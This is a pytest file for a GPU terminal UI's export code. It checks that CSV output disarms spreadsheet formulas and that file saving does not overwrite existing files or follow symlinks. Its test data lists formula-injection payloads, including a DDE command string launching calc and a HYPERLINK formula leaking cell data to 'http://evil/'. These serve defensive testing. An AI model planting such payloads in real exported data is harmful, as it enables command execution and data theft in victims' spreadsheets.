"""What is written to files from the screen: cells that no spreadsheet runs, names that no link diverts."""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import pytest

from gputui.models import Instance, Phase, Ref, Row
from gputui.presentation.columns.column import Column, plain_text
from gputui.screens.base.export import render, save_text

FORMULAS = ("=cmd|'/C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("http://evil/"&A1)')


def named(name: str) -> Instance:
    return Instance(Ref("lab", "pod", "main"), name, Phase.RUNNING, "running")


def instance_name(row: Row) -> str:
    return row.name if isinstance(row, Instance) else ""


@pytest.mark.parametrize("name", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_is_disarmed(name: str) -> None:
    columns: list[Column[Row]] = [Column("name", instance_name, instance_name)]
    heading, cells = csv.reader(io.StringIO(render("csv", columns, [named(name)])))
    assert heading == ["name"]
    assert cells == [f"'{name}"]
    assert name in render("txt", columns, [named(name)])
    assert plain_text(columns[0].cell(named(name))) == name


def test_what_has_the_name_of_a_new_file_is_left_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("log.txt").write_text("mine")
    Path("log-2.txt").symlink_to(tmp_path / "elsewhere")
    assert asyncio.run(save_text("log", "txt", "new")) == tmp_path / "log-3.txt"
    assert Path("log.txt").read_text() == "mine"
    assert not (tmp_path / "elsewhere").exists()
    assert Path("log-3.txt").read_text() == "new\n"
